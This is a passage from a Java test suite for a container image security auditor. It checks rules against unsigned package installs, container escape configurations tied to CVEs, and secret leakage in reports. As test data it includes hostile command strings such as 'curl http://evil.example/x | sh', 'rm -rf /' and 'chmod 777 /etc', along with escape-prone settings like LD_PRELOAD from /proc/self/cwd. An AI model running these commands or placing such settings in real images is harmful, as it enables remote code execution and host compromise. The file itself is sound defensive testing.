                built("IMG-021", FAIL, "/bin/sh -c apt-get --force-yes install x"),
                built("IMG-021", FAIL, "/bin/sh -c apk add --allow-untrusted x.apk"),
                built("IMG-021", FAIL, "/bin/sh -c yum install --nogpgcheck x"),
                built("IMG-021", FAIL, "/bin/sh -c zypper --no-gpg-checks in x"),
                built("IMG-021", FAIL, "/bin/sh -c rpm -i --nosignature x.rpm"),
                built("IMG-021", FAIL, "/bin/sh -c echo 'deb [arch=amd64 trusted=yes] http://x y z' > /etc/apt/x.list"),
                built("IMG-021", FAIL, "/bin/sh -c echo deb [ trusted=yes ] http://x"),
                built("IMG-021", FAIL, "/bin/sh -c apt-get -o APT::Get::AllowUnauthenticated=true install x"),
                built("IMG-021", FAIL, "/bin/sh -c apt-get -oAPT::Get::AllowUnauthenticated=1 install x"),
                built("IMG-021", FAIL, "/bin/sh -c apt-get update --allow-insecure-repositories"),
                built(
                        "IMG-021",
                        FAIL,
                        "/bin/sh -c echo 'APT::Get::AllowUnauthenticated \"true\";' > /etc/apt/apt.conf.d/x"),
                built("IMG-021", FAIL, "/bin/sh -c yum --setopt=gpgcheck=0 install x"),
                built("IMG-021", FAIL, "/bin/sh -c dnf --setopt acme.gpgcheck=False install x"),
                built("IMG-021", FAIL, "/bin/sh -c printf '[acme]\\ngpgcheck=0\\n' > /etc/yum.repos.d/acme.repo"),
                built("IMG-021", FAIL, "/bin/sh -c sed -i 's/gpgcheck=1/gpgcheck=0/' /etc/yum.repos.d/acme.repo"),
                built("IMG-021", PASS, "/bin/sh -c apt-get -o APT::Get::AllowUnauthenticated=false install x"),
                built("IMG-021", PASS, "/bin/sh -c apt-get -o APT::Get::Assume-Yes=true install x"),
                built("IMG-021", PASS, "/bin/sh -c yum --setopt=gpgcheck=1 --setopt=repo_gpgcheck=0 install x"),
                built("IMG-021", PASS, "/bin/sh -c printf '[acme]\\ngpgcheck=1\\n' > /etc/yum.repos.d/acme.repo"),
                built("IMG-021", FAIL, "/bin/sh -c sed -i 's/a/b/; s/gpgcheck=1/gpgcheck=0/g' x"),
                built("IMG-021", FAIL, "/bin/sh -c sed -i 's/a/b/\n  s/gpgcheck=1/gpgcheck=0/\n' x"),
                built("IMG-021", PASS, "/bin/sh -c sed -i 's/a/s/gpgcheck=1/gpgcheck=0/' x"),
                built("IMG-021", PASS, "/bin/sh -c grep gpgcheck=0 x"),
                built("IMG-021", PASS, "/bin/sh -c sed -i 's/gpgcheck=0/gpgcheck=1/' /etc/yum.repos.d/acme.repo"),
                built("IMG-021", PASS, "/bin/sh -c apt-get install x"),
                built("IMG-021", PASS, "/bin/sh -c grep --nogpgcheck x"),
                built("IMG-021", PASS, "/bin/sh -c echo 'deb [signed-by=/k] http://x trusted=yes'"));
    }

    private static Stream<Arguments> startCases() {
        return Stream.of(
                of("IMG-031", FAIL, "command", Images.withStrings("Cmd", "/bin/sh", "-c", "x")),
                of("IMG-031", FAIL, "entry point", Images.withStrings("Entrypoint", "/bin/sh", "-c", "x")),
                of("IMG-031", PASS, "list", Images.withStrings("Cmd", "/server", "-c")),
                of("IMG-031", PASS, "shell", Images.withStrings("Cmd", "/bin/sh")),
                of("IMG-034", FAIL, "sshd", Images.withStrings("Cmd", "/usr/sbin/sshd", "-D")),
                of("IMG-034", FAIL, "in a shell", Images.withStrings("Cmd", "/bin/sh", "-c", "exec /usr/sbin/sshd -D")),
                of("IMG-034", FAIL, "behind tini", Images.withStrings("Entrypoint", "tini", "--", "supervisord", "-n")),
                of("IMG-034", FAIL, "init", Images.withStrings("Cmd", "/sbin/init")),
                of(
                        "IMG-034",
                        FAIL,
                        "script that is the command",
                        Images.execution(
                                "\"Entrypoint\":[\"/bin/sh\",\"-c\"],\"Cmd\":[\"service x start; /usr/sbin/sshd -D\"]")),
                of("IMG-034", UNKNOWN, "deep", Images.withStrings("Cmd", "sh", "-c", "nohup ".repeat(9) + "sshd")),
                of("IMG-034", PASS, "own init", Images.withStrings("Entrypoint", "/init")),
                of("IMG-034", PASS, "argument", Images.withStrings("Cmd", "/server", "sshd")),
                of("IMG-034", PASS, "none", Images.document("")));
    }

    private static ImageSubject described(String members, Map<String, String> annotations) {
        return ImageSubject.builder("test")
                .config(Images.config(
                        ("{'architecture':'a','os':'linux','rootfs':{'type':'layers','diff_ids':[]},'config':{"
                                        + members + "}}")
                                .replace('\'', '"')))
                .annotations(annotations)
                .build();
    }

    /** Settings with which images attack engines; similar ones pass. */
    private static Stream<Arguments> attackCases() {
        return Stream.of(
                // CVE-2026-50195, CVE-2026-53492
                of("ATK-001", FAIL, "checkpoint", described("", Map.of("org.criu.checkpoint.container.name", "a"))),
                of("ATK-001", PASS, "other annotation", described("", Map.of("org.example.checkpoint", "a"))),
                of("ATK-001", UNKNOWN, "no manifest", Images.document("")),
                // CVE-2026-53488
                of(
                        "ATK-002",
                        FAIL,
                        "logger",
                        described("'Labels':{'containerd.io/restart.loguri':'binary:///bin/x'}", Map.of())),
                of("ATK-002", FAIL, "device", described("'Labels':{'cdi.k8s.io/a':'b'}", Map.of())),
                of(
                        "ATK-002",
                        PASS,
                        "updates",
                        described("'Labels':{'io.containers.autoupdate':'registry','maintainer':'a'}", Map.of())),
                of("ATK-002", UNKNOWN, "no manifest", Images.document("")),
                // CVE-2024-21626, CVE-2019-5736
                of("ATK-003", FAIL, "descriptor", Images.execution("'WorkingDir':'/proc/self/fd/8'")),
                of("ATK-003", FAIL, "dots", Images.execution("'WorkingDir':'/a/../proc/self/cwd'")),
                of("ATK-003", FAIL, "runtime", Images.execution("'Entrypoint':['/proc/self/exe']")),
                of("ATK-003", PASS, "similar", Images.execution("'WorkingDir':'/process','Cmd':['/bin/dev']")),
                of("ATK-009", FAIL, "preload", Images.execution("'Env':['LD_PRELOAD=/proc/self/cwd/a.so']")),
                of("ATK-009", FAIL, "second path", Images.execution("'Env':['LD_LIBRARY_PATH=/lib:/dev/shm']")),
                of(
                        "ATK-009",
                        PASS,
                        "library",
                        Images.execution("'Env':['LD_PRELOAD=/usr/lib/libjemalloc.so.2','A=/proc']")),
                of("ATK-009", FAIL, "own folder", Images.execution("'Env':['LD_PRELOAD=./a.so']")),
                of("ATK-009", FAIL, "current folder", Images.execution("'Env':['LD_LIBRARY_PATH=/lib:.']")),
                of(
                        "ATK-009",
                        FAIL,
                        "folder of the program",
                        Images.execution("'Env':['LD_PRELOAD=$ORIGIN/../../proc/self/cwd/a.so']")),
                of(
                        "ATK-009",
                        PASS,
                        "found by the loader",
                        Images.execution("'Env':['LD_PRELOAD=libjemalloc.so.2','LD_LIBRARY_PATH=$ORIGIN/../lib:/a:']")),
                // CVE-2022-23648
                of("ATK-013", FAIL, "volume", Images.execution("'Volumes':{'/a/../../etc':{}}")),
                of("ATK-013", FAIL, "folder", Images.execution("'WorkingDir':'../a'")),
                of("ATK-013", PASS, "dots", Images.execution("'Volumes':{'/a/../b/..c':{}},'WorkingDir':'/a/..'")),
                // CVE-2022-4318
                of("ATK-014", FAIL, "home", Images.execution("'Env':['HOME=/\\na:x:0:0::/:']")),
                of("ATK-014", FAIL, "user", Images.execution("'User':'a\\nb'")),
                of("ATK-014", PASS, "other lines", Images.execution("'Env':['A=a\\nb','HOME=/a'],'User':'a'")),
                // CVE-2021-25743
                of("ATK-016", FAIL, "label", Images.execution("'Labels':{'a':'\\u001b[2J'}")),
                of("ATK-016", FAIL, "name of a label", Images.execution("'Labels':{'\\u001bc':'a'}")),
                of("ATK-016", FAIL, "program", Images.execution("'Cmd':['\\u009b31m']")),
                of("ATK-016", FAIL, "history", Images.built("RUN echo \u001b[8m; rm -rf /")),
                of(
                        "ATK-016",
                        PASS,
                        "lines and escapes as text",
                        Images.execution(
                                "'Labels':{'a':'b\\n\\tc\\r\\n','d':'\\u00db'},'Env':['PS1=\\\\e[31m\\\\u001b[0m']")),
                // CVE-2024-9675
                of(
                        "ATK-017",
                        FAIL,
                        "parent",
                        Images.execution("'OnBuild':['RUN --mount=type=cache,source=../..,target=/a b']")),
                of(
                        "ATK-017",
                        FAIL,
                        "kernel",
                        Images.execution("'OnBuild':['RUN --mount=type=tmpfs,target=/proc/a b']")),
                of(
                        "ATK-017",
                        PASS,
                        "cache",
                        Images.execution(
                                "'OnBuild':['COPY . /app','RUN --mount=type=cache,target=/root/..npm npm ci --x=../y']")));
    }

    private static ImageSubject vouched(Decision.Kind kind, List<Evidence> evidence, RefusedEvidence... refused) {
        TrustResult trust = new TrustResult(
                new Decision(kind, List.of("because")),
                kind == Decision.Kind.ACCEPTED ? Optional.of(ResolvedDigest.of(SIGNED, "the test")) : Optional.empty(),
                "",
                evidence,
                List.of(refused));
        return Images.nothing().withTrust(trust);
    }

    private static Evidence signature() {
        return Evidence.of(Evidence.Kind.COSIGN_SIGNATURE, SIGNED, new Signer.Key("a"), "here");
    }

    private static RefusedEvidence refusal(EvidenceException.Reason reason) {
        return new RefusedEvidence("here", "a key", reason, "no");
    }

    private static Stream<Arguments> signatureCases() {
        ImageSubject signed = vouched(Decision.Kind.ACCEPTED, List.of(signature()));
        ImageSubject unsigned = vouched(Decision.Kind.REJECTED, List.of());
        ImageSubject foreign =
                vouched(Decision.Kind.REJECTED, List.of(), refusal(EvidenceException.Reason.KEY_UNTRUSTED));
        ImageSubject unread = vouched(Decision.Kind.INCOMPLETE, List.of());
        ImageSubject attested = vouched(
                Decision.Kind.ACCEPTED,
                List.of(
                        signature().withPredicateType("https://spdx.dev/Document"),
                        signature().withPredicateType("https://slsa.dev/provenance/v1")));
        return Stream.of(
                of("PRV-001", PASS, "signed", signed),
                of("PRV-001", FAIL, "unsigned", unsigned),
                of("PRV-001", UNKNOWN, "unread", unread),
                of("PRV-002", PASS, "signed", signed),
                of("PRV-002", FAIL, "foreign", foreign),
                of("PRV-002", NOT_APPLICABLE, "unsigned", unsigned),
                of("PRV-002", UNKNOWN, "unread", unread),
                of("PRV-003", PASS, "signed", signed),
                of(
                        "PRV-003",
                        FAIL,
                        "over",
                        vouched(Decision.Kind.REJECTED, List.of(), refusal(EvidenceException.Reason.EXPIRED))),
                of(
                        "PRV-003",
                        FAIL,
                        "was valid until",
                        vouched(
                                Decision.Kind.ACCEPTED,
                                List.of(signature().withValidUntil(Instant.parse("2020-01-01T00:00:00Z"))))),
                of("PRV-004", PASS, "spdx", attested),
                of("PRV-004", FAIL, "signature only", signed),
                of("PRV-005", PASS, "slsa", attested),
                of("PRV-005", FAIL, "signature only", signed),
                of("PRV-005", UNKNOWN, "unread", unread),
                of("PRV-006", PASS, "signed", signed),
                of(
                        "PRV-006",
                        FAIL,
                        "other",
                        vouched(
                                Decision.Kind.REJECTED,
                                List.of(),
                                refusal(EvidenceException.Reason.SUBJECT_MISMATCH))));
    }

    /** Lists are empty by default; {@link #aPolicyListsRegistriesAndBases} sets them. */
    private static Stream<Arguments> allowedCases() {
        ImageSubject moved =
                ImageSubject.builder("test").earlierDigests(List.of(SIGNED)).build();
        return Stream.of(
                of("IMG-026", NOT_APPLICABLE, "no list", Images.named("a:1")),
                of("IMG-027", NOT_APPLICABLE, "no list", described("", Map.of())),
                of("IMG-040", UNKNOWN, "no digest", moved),
                of("IMG-040", UNKNOWN, "no earlier audit", Images.document("")));
    }

    @Test
    void aTagThatHadAnotherDigestHasMoved() {
        ImageManifest manifest = ImageManifest.builder(Descriptor.ofContent(MediaType.OCI_CONFIG, new byte[] {1}))
                .build();
        for (Digest earlier : List.of(SIGNED, manifest.digest())) {
            ImageSubject image = ImageSubject.builder("test")
                    .manifest(manifest)
                    .earlierDigests(List.of(manifest.digest(), earlier))
                    .build();
            assertEquals(
                    earlier.equals(SIGNED) ? FAIL : PASS,
                    Images.findings(image, "IMG-040").get(0).kind());
        }
    }

    @Test
    void aPolicyListsRegistriesAndBases() {
        String base = "org.opencontainers.image.base.name";
        assertEquals(FAIL, listed("IMG-026", "registries", "registry.example.org", Images.named("a:1")));
        assertEquals(PASS, listed("IMG-026", "registries", "docker.io", Images.named("a:1")));
        String debian = "docker.io/library/debian";
        assertEquals(PASS, listed("IMG-027", "baseImages", debian, described("", Map.of(base, "debian:13"))));
        assertEquals(FAIL, listed("IMG-027", "baseImages", debian, described("", Map.of(base, "alpine"))));
        assertEquals(UNKNOWN, listed("IMG-027", "baseImages", debian, described("", Map.of())));
    }

    @Test
    void aPolicyListsRegistriesAndBasesInTheirOtherSpellings() {
        assertEquals(PASS, listed("IMG-026", "registries", "index.docker.io", Images.named("a:1")));
        assertEquals(PASS, listed("IMG-026", "registries", "GHCR.io", Images.named("ghcr.io/a/b:1")));
        assertEquals(PASS, listed("IMG-026", "registries", "ghcr.io/a", Images.named("ghcr.io/a/b:1")));
        assertEquals(FAIL, listed("IMG-026", "registries", "ghcr.io/a", Images.named("ghcr.io/ab/b:1")));
        ImageSubject image = described(
                "",
                Map.of(
                        "org.opencontainers.image.base.name",
                        "docker.io/library/debian:13",
                        "org.opencontainers.image.base.digest",
                        SIGNED.toString()));
        assertEquals(PASS, listed("IMG-027", "baseImages", "debian", image));
        assertEquals(PASS, listed("IMG-027", "baseImages", "debian:13", image));
        assertEquals(FAIL, listed("IMG-027", "baseImages", "debian:12", image));
        assertEquals(PASS, listed("IMG-027", "baseImages", "debian@" + SIGNED, image));
        assertEquals(FAIL, listed("IMG-027", "baseImages", "debian@sha256:" + "0".repeat(64), image));
    }

    @SuppressWarnings("unchecked") // both are lists of texts
    private static Outcome.Kind listed(String rule, String name, String value, ImageSubject image) {
        RuleInfo info =
                ImageRules.ruleSet().rule(new RuleId(rule)).orElseThrow().info();
        RuleParameter<List<String>> parameter =
                (RuleParameter<List<String>>) info.parameter(name).orElseThrow();
        Policy policy = Policy.defaults().withSetting(info.id(), RuleSetting.of(parameter, List.of(value)));
        return Auditor.of(policy, ImageRules.ruleSet()).audit(List.of(image)).findings().stream()
                .filter(finding -> finding.rule().id().equals(info.id()))
                .map(Finding::kind)
                .findFirst()
                .orElseThrow();
    }

    private static Stream<Arguments> provenanceCases() {
        String labels = "'Labels':{'org.opencontainers.image.source':'s','org.opencontainers.image.revision':'r',"
                + "'org.opencontainers.image.created':'c'}";
        return Stream.of(
                of("IMG-024", FAIL, "latest", Images.named("a:latest")),
                of("IMG-024", FAIL, "no tag", Images.named("a")),
                of("IMG-024", FAIL, "latest with digest", Images.named("a:latest" + DIGEST)),
                of("IMG-024", PASS, "version", Images.named("a:1.2")),
                of("IMG-024", PASS, "digest", Images.named("a" + DIGEST)),
                of("IMG-025", FAIL, "tag", Images.named("a:1.2")),
                of("IMG-025", PASS, "digest", Images.named("a:1.2" + DIGEST)),
                of("IMG-028", PASS, "labels", Images.execution(labels)),
                of("IMG-028", UNKNOWN, "no labels, no manifest", Images.document("")),
                of("IMG-028", FAIL, "neither", annotated(Map.of())),
                of("IMG-028", FAIL, "some", annotated(Map.of("org.opencontainers.image.source", "s"))),
                of(
                        "IMG-028",
                        PASS,
                        "annotations",
                        annotated(Map.of(
                                "org.opencontainers.image.source", "s",
                                "org.opencontainers.image.revision", "r",
                                "org.opencontainers.image.created", "c"))),
                of("IMG-029", FAIL, "old", Images.document("'created':'2023-11-14T22:13:20Z'")),
                of("IMG-029", FAIL, "a second too old", Images.document("'created':'2026-08-25T23:59:59Z'")),
                of("IMG-029", PASS, "90 days", Images.document("'created':'2026-08-26T00:00:00Z'")),
                of("IMG-029", PASS, "now", Images.document("'created':'2026-11-24T00:00:00Z'")),
                of("IMG-029", UNKNOWN, "of Nix", Images.document("'created':'1970-01-01T00:00:01Z'")),
                of("IMG-029", UNKNOWN, "of a buildpack", Images.document("'created':'1980-01-01T00:00:01Z'")),
                of("IMG-029", UNKNOWN, "future", Images.document("'created':'2026-11-24T00:00:01Z'")),
                of("IMG-029", UNKNOWN, "epoch", Images.document("'created':'1970-01-01T00:00:00Z'")),
                of("IMG-029", UNKNOWN, "zero time of Go", Images.document("'created':'0001-01-01T00:00:00Z'")),
                of("IMG-029", UNKNOWN, "not said", Images.document("")));
    }

    private static ImageSubject annotated(Map<String, String> annotations) {
        return ImageSubject.builder("test")
                .config(Images.config(
                        "{\"architecture\":\"a\",\"os\":\"l\",\"rootfs\":{\"type\":\"layers\",\"diff_ids\":[]}}"))
                .annotations(annotations)
                .build();
    }

    private static ImageSubject layered(String mediaType, String... urls) {
        return ImageSubject.builder("test")
                .layers(List.of(new Layer(mediaType, List.of(urls))))
                .build();
    }

    private static ImageSubject format(int version, String mediaType) {
        return ImageSubject.builder("test").manifestFormat(version, mediaType).build();
    }

    private static Stream<Arguments> contentCases() {
        String v2 = "application/vnd.docker.distribution.manifest.v2+json";
        String diffIds = "'rootfs':{'type':'layers','diff_ids':['sha256:" + "ab".repeat(32) + "']}";
        return Stream.of(
                of(
                        "IMG-035",
                        FAIL,
                        "mismatch",
                        ImageSubject.builder("test")
                                .contentProblems(List.of("layer 1: wrong digest"))
                                .build()),
                of(
                        "IMG-035",
                        PASS,
                        "held",
                        ImageSubject.builder("test").contentProblems(List.of()).build()),
                of("IMG-036", FAIL, "url", layered("application/vnd.oci.image.layer.v1.tar", "https://example.test/x")),
                of("IMG-036", FAIL, "oci", layered("application/vnd.oci.image.layer.nondistributable.v1.tar+gzip")),
                of("IMG-036", FAIL, "docker", layered("application/vnd.docker.image.rootfs.foreign.diff.tar.gzip")),
                of("IMG-036", PASS, "plain", layered("application/vnd.oci.image.layer.v1.tar+gzip")),
                of("IMG-037", FAIL, "schema 1", format(1, "application/json")),
                of("IMG-037", FAIL, "signed", format(2, "application/vnd.docker.distribution.manifest.v1+prettyjws")),
                of("IMG-037", PASS, "schema 2", format(2, v2)),
                of("IMG-038", FAIL, "more steps", Images.built("RUN a", "RUN b")),
                of("IMG-038", PASS, "empty layers do not count", matching(diffIds)),
                of("IMG-038", UNKNOWN, "no history", Images.document("")),
                of("IMG-041", FAIL, "no =", Images.document("'config':{'Env':['A=b','PATH']}")),
                of("IMG-041", FAIL, "all", Images.document("'config':{'Env':['*']}")),
                of("IMG-041", FAIL, "no name", Images.document("'config':{'Env':['=b']}")),
                of("IMG-041", PASS, "value", Images.document("'config':{'Env':['A=','B=*']}")),
                of("IMG-041", PASS, "none", Images.document("'config':{}")),
                of("IMG-042", FAIL, "label", Images.document("'config':{'Labels':{'a':null}}")),
                of("IMG-042", FAIL, "command", Images.document("'config':{'cmd':['a']}")),
                of("IMG-042", PASS, "nothing", Images.document("'config':{'Cmd':['a']}")),
                of("IMG-043", FAIL, "escape", withFile("etc/a\u001b[2J")),
                of("IMG-043", FAIL, "line", withFile("a\nb")),
                of("IMG-043", PASS, "letters", withFile("etc/\u00e4 b")),
                of("IMG-043", UNKNOWN, "no files", Images.document("")),
                of("IMG-044", FAIL, "mode", withLink(0755)),
                of("IMG-044", PASS, "equal", withLink(0644)),
                of("IMG-044", PASS, "none", withFile("a")),
                of("IMG-044", UNKNOWN, "no files", Images.document("")));
    }

    private static ImageSubject withFile(String path) {
        return withFiles(new TestTar().file(path, ""));
    }

    private static ImageSubject withLink(int mode) {
        return withFiles(new TestTar()
                .entry(TestTar.Header.of("a", '0').mode(0644))
                .entry(TestTar.Header.of("b", '1').link("a").mode(mode)));
    }

    private static ImageSubject withFiles(TestTar files) {
        byte[] archive = files.finish();
        try (LayerReader layer = LayerReader.openArchive(new ByteArrayInputStream(archive), LayerLimits.defaults())) {
            return ImageSubject.builder("test")
                    .files(ImageFileSystem.builder(MergeOptions.defaults())
                            .addLayer(Digest.sha256Of(archive), layer)
                            .build())
                    .build();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static ImageSubject matching(String diffIds) {
        String json = "{'architecture':'a','os':'l'," + diffIds
                + ",'history':[{'created_by':'RUN a'},{'created_by':'USER 1','empty_layer':true}]}";
        return ImageSubject.builder("test")
                .config(Images.config(json.replace('\'', '"')))
                .build();
    }

    @ParameterizedTest(name = "{0} {1} {2}")
    @MethodSource("cases")
    void givesTheVerdict(String rule, Outcome.Kind verdict, String what, ImageSubject image) {
        List<Finding> findings = Images.findings(image, rule);
        assertFalse(findings.isEmpty(), what);
        for (Finding finding : findings) {
            assertEquals(verdict, finding.kind(), what + ": " + finding.detail());
        }
    }

    @Test
    void everyRuleHasAFailingAndAPassingCase() {
        Set<String> seen = new HashSet<>();
        cases().forEach(arguments ->
                seen.add(arguments.get()[0] + " " + arguments.get()[1]));
        for (Rule<?> rule : ImageRules.ruleSet().rules()) {
            String id = rule.info().id().value();
            // The others depend on a parameter or on an earlier audit, and have tests of their own.
            assertTrue(
                    (seen.contains(id + " FAIL") && seen.contains(id + " PASS"))
                            || Set.of("IMG-026", "IMG-027", "IMG-040").contains(id),
                    id);
        }
    }

    @Test
    void noRulePassesAnImageOfWhichNothingIsKnown() {
        List<Finding> findings = Images.audit(Images.nothing()).findings();
        assertEquals(ImageRules.ruleSet().rules().size(), findings.size());
        findings.forEach(
                finding -> assertEquals(UNKNOWN, finding.kind(), finding.rule().id() + " " + finding.detail()));
    }

    @Test
    void historyRulesCannotTellWithoutAHistoryOrWithAStepThatWasNotRecorded() {
        ImageSubject none = Images.document("'history':null");
        ImageSubject opaque = Images.document("'history':[{'created_by':'COPY a b'},{}]");
        for (String rule : List.of(
                "IMG-007", "IMG-012", "IMG-013", "IMG-014", "IMG-015", "IMG-016", "IMG-017", "IMG-018", "IMG-019",
                "IMG-020", "IMG-021", "IMG-022", "IMG-023", "IMG-032")) {
            assertEquals(UNKNOWN, Images.findings(none, rule).get(0).kind(), rule);
            assertEquals(UNKNOWN, Images.findings(opaque, rule).get(0).kind(), rule);
        }
    }

    @Test
    void aHistoryThatIsTooLongToBeReadLeavesTheQuestionOpen() {
        ImageSubject image = Images.built("/bin/sh -c " + "a;".repeat(600_000), "/bin/sh -c sudo x");
        assertEquals(UNKNOWN, Images.findings(image, "IMG-018").get(0).kind());
    }

    @Test
    void commandsThatAreNestedTooDeeplyToBeReadLeaveTheQuestionOpen() {
        for (String step : List.of(
                "/bin/sh -c " + "nohup ".repeat(9) + "curl -k https://x",
                "/bin/sh -c " + "eval ".repeat(9) + "curl -k https://x",
                "/bin/sh -c " + "(".repeat(41) + "a" + ")".repeat(41),
                "/bin/sh -c " + "$(".repeat(41) + "a" + ")".repeat(41),
                "/bin/sh -c " + "<(".repeat(41) + "a" + ")".repeat(41),
                "/bin/sh -c " + "$(".repeat(40) + "`curl -k https://x`" + ")".repeat(40))) {
            assertEquals(
                    UNKNOWN,
                    Images.findings(Images.built(step), "IMG-020").get(0).kind(),
                    step);
        }
        ImageSubject other = Images.built("/bin/sh -c " + "eval ".repeat(9) + "a", "/bin/sh -c curl -k https://x");
        assertEquals(FAIL, Images.findings(other, "IMG-020").get(0).kind());
    }

    @Test
    void aProblemIsReportedOnce() {
        assertEquals(1, Images.findings(opened("true", "/tmp:/tmp"), "IMG-032").size());
        assertEquals(
                1,
                Images.findings(Images.built("ENV A_TOKEN=x1 A_TOKEN=x1"), "IMG-007")
                        .size());
    }

    @Test
    void hostileConfigurationsAreJudgedInBoundedTime() {
        List<ImageSubject> hostile = List.of(
                Images.built("ENV " + "A_TOKEN=x1 ".repeat(90_000)),
                Images.built("/bin/sh -c " + "chmod -R 777 /a/b;".repeat(50_000)),
                Images.built("/bin/sh -c " + "a;".repeat(500_000)),
                Images.built("ADD " + "http://x ".repeat(100_000)),
                Images.env("PATH=" + "/a/b:".repeat(500_000)),
                Images.env("PATH=" + "/a".repeat(1_000_000)),
                Images.env("A=" + "https://a:b@".repeat(300_000)),
                Images.built("/bin/sh -c " + numbered("p% --trusted-host;", 40_000)),
                Images.built("/bin/sh -c sed '" + "s/gpgcheck=1/gpgcheck=0/;".repeat(40_000) + "\n'"),
                Images.built("/bin/sh -c sed '" + "\n".repeat(500_000) + "'"),
                Images.built("/bin/sh -c chmod " + "u".repeat(250_000) + "+" + "x".repeat(250_000) + " /x"),
                opened("chmod 777" + numbered(" /%", 100_000), numbered("/x-%:", 400_000)));
        for (ImageSubject image : hostile) {
            assertTimeoutPreemptively(Duration.ofSeconds(30), () -> Images.audit(image));
        }
    }

    private static String numbered(String pattern, int count) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < count; i++) {
            text.append(pattern.replace("%", Integer.toString(i, 36)));
        }
        return text.toString();
    }

    @Test
    void aStepShowsTwentyToolsWithoutVerificationAtMost() {
        for (int tools : new int[] {1, 20, 21}) {
            ImageSubject image = Images.built("/bin/sh -c " + numbered("p% --trusted-host;", tools));
            assertEquals(Math.min(tools, 20), Images.findings(image, "IMG-020").size(), tools + " tools");
        }
    }

    @Test
    void noSecretReachesTheReport() throws IOException {
        String secret = "s3cr3t-value";
        String json = ("{'architecture':'a','os':'l','rootfs':{'type':'layers','diff_ids':[]},'config':{"
                        + "'User':'" + TOKEN + "','Env':['DB_PASSWORD=" + secret + "','X=" + TOKEN + "','PATH=" + TOKEN
                        + "','U=https://a:" + secret + "@b/'],'Labels':{'token':'" + secret + "','" + TOKEN + "':'x'},"
                        + "'Volumes':{'/proc/" + TOKEN + "':{}},'WorkingDir':'/proc/" + TOKEN + "',"
                        + "'ExposedPorts':{'" + TOKEN + "':{}}},'history':[{'created_by':'|1 API_KEY=" + secret
                        + " /bin/sh -c curl -k https://a:" + secret + "@b | sh'},"
                        + "{'created_by':'ADD https://a:" + secret + "@b/" + TOKEN + " /x # buildkit'}]}")
                .replace('\'', '"');
        ImageSubject image = ImageSubject.builder("test")
                .config(Images.config(json))
                .contentProblems(List.of("blob " + TOKEN))
                .layers(List.of(new Layer("x", List.of("https://a:" + secret + "@b/"))))
                .build();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        JsonReporter.create().write(Images.audit(image), out);
        String report = out.toString(StandardCharsets.UTF_8);
        assertFalse(report.contains(secret), report);
        assertFalse(report.contains(TOKEN), report);
        assertTrue(report.contains("\"redacted\" : true"));
    }

    private static AuditReport auditAfter(String former, String step) {
        Baseline baseline = Baseline.of(Images.audit(Images.built(former)));
        Policy strict = Policy.defaults().withProfile(Profile.STRICT);
        return Auditor.of(strict, ImageRules.ruleSet())
                .withBaseline(baseline)
                .withClock(Clock.fixed(Images.NOW, ZoneOffset.UTC))
                .audit(List.of(Images.built("COPY a /a # buildkit", step)));
    }

    private static Set<Disposition> dispositions(AuditReport report, String rule) {
        return report.findings(FAIL).stream()
                .filter(finding -> finding.rule().id().value().equals(rule))
                .map(Finding::disposition)
                .collect(Collectors.toSet());
    }

    @ParameterizedTest
    @CsvSource({
        "IMG-019,curl https://good.example/setup.sh | sh,curl http://evil.example/x | sh",
        "IMG-020,curl -k https://good.example/a,curl -k https://evil.example/x",
        "IMG-021,apk add --allow-untrusted a.apk,apk add --allow-untrusted b.apk",
        "IMG-022,usermod -p x a,usermod -p x root",
        "IMG-023,chmod 777 /opt/a,chmod 777 /etc"
    })
    void aBaselineHasTheStepAndNotAnyStep(String rule, String accepted, String other) {
        assertEquals(Set.of(Disposition.BASELINED), dispositions(auditAfter(accepted, accepted), rule));
        assertEquals(Set.of(Disposition.OPEN), dispositions(auditAfter(accepted, other), rule));
    }

    @Test
    void aBaselineHasAnAddWhoseFileChanged() {
        String step = "/bin/sh -c #(nop) ADD file:%s in /app ";
        AuditReport now = auditAfter(step.formatted("ab".repeat(32)), step.formatted("cd".repeat(32)));
        assertEquals(Set.of(Disposition.BASELINED), dispositions(now, "IMG-012"));
    }

    @Test
    void theTextOfAStepIsNotInTheReport() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        JsonReporter.create().write(Images.audit(Images.built("echo root:hunter2-fake | chpasswd")), out);
        assertFalse(out.toString(StandardCharsets.UTF_8).contains("hunter2"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "export DB_PASSWORD=%s",
                "curl -k -u bob:%s https://example.test/a",
                "curl -k -H 'Authorization: Bearer %s' https://example.test/a",
                "curl -k https://bob:%s@example.test/a?token=%s",
                "usermod -p %s root",
                "mysql -uroot -p%s app && chmod 777 /etc",
                "docker login -u bob -p %s && chmod 777 /etc",
                "echo root:%s | chpasswd && chmod 777 /etc",
                "|1 API_TOKEN=%s /bin/sh -c chmod 777 /etc",
                "ENV API_TOKEN=%s",
                "chmod 777 /etc # %s"
            })
    void noReportDependsOnTheValueOfASecret(String step) throws IOException {
        String first = reports(step.replace("%s", "hunter2"));
        assertEquals(first, reports(step.replace("%s", "correct-horse-battery-staple")));
        assertFalse(first.contains("hunter2"));
    }

    /** {@return all reports of an image with that step, and with it as a trigger, a label and a health check} */
    private static String reports(String step) throws IOException {
        String config =
                "\"config\":{\"OnBuild\":[%1$s],\"Labels\":{\"password\":%1$s},".replace("%1$s", quote("RUN " + step))
                        + "\"Healthcheck\":{\"Test\":[\"CMD-SHELL\"," + quote(step) + "]}},";
        ImageSubject image = Images.raw(config + "\"history\":" + Images.history(step));
        Policy strict = Policy.defaults().withProfile(Profile.STRICT);
        AuditReport report = Auditor.of(strict, ImageRules.ruleSet())
                .withClock(Clock.fixed(Images.NOW, ZoneOffset.UTC))
                .audit(List.of(image));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (Reporter reporter : List.of(
                JsonReporter.create(),
                SarifReporter.create(),
                JunitReporter.create(),
                TextReporter.create(),
                MarkdownReporter.create(),
                HtmlReporter.create())) {
            reporter.write(report, out);
        }
        return out.toString(StandardCharsets.UTF_8);
    }
}
